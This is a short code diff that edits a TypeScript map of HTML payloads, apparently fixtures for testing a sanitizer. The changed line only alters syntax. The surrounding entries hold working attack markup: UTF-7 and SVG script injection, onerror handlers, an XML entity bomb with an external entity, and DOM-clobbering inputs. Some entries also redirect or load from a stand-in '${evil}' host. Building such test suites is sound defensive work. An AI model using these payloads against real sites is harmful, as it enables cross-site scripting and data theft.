@@ -53,7 +53,7 @@ export const markup: Record<string, string> = {
   "seven bits": `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
   "entities that multiply": `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "${evil}/x">]><p>&b;&c;</p>`,
   "names that hide a form's own": `<form>${["firstChild", "nextSibling", "nextElementSibling", "firstElementChild", "parentNode", "childNodes", "children", "attributes", "getAttribute", "remove", "nodeName"].map((name) => `<input name="${name}"><img id="${name}">`).join("")}<p>In a form</p></form>`,
-  "names that hide a page's own": `${["createTreeWalker", "createElement", "querySelectorAll", "getElementsByTagName", "head", "title", "implementation", "importNode", "documentURI", "baseURI", "firstChild"].map((name) => `<img name="${name}"><form name="${name}"></form><embed name="${name}">`).join("")}`,
+  "names that hide a page's own": ["createTreeWalker", "createElement", "querySelectorAll", "getElementsByTagName", "head", "title", "implementation", "importNode", "documentURI", "baseURI", "firstChild"].map((name) => `<img name="${name}"><form name="${name}"></form><embed name="${name}">`).join(""),
   "another page, from a drawing": `<svg><meta http-equiv="refresh" content="0; url=${evil}/"></svg><math><base href="${evil}/"></math>`,
   "drawing with another's markup": `<svg><foreignObject><iframe src="javascript:top.${run}"></iframe><img src="${evil}/x.png" onerror="${run}"></foreignObject><style>@import "${evil}/x.css"</style></svg>`,
   "drawing in which text is code": `<svg><![CDATA[><img src=x onerror=${run}>]]></svg><math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
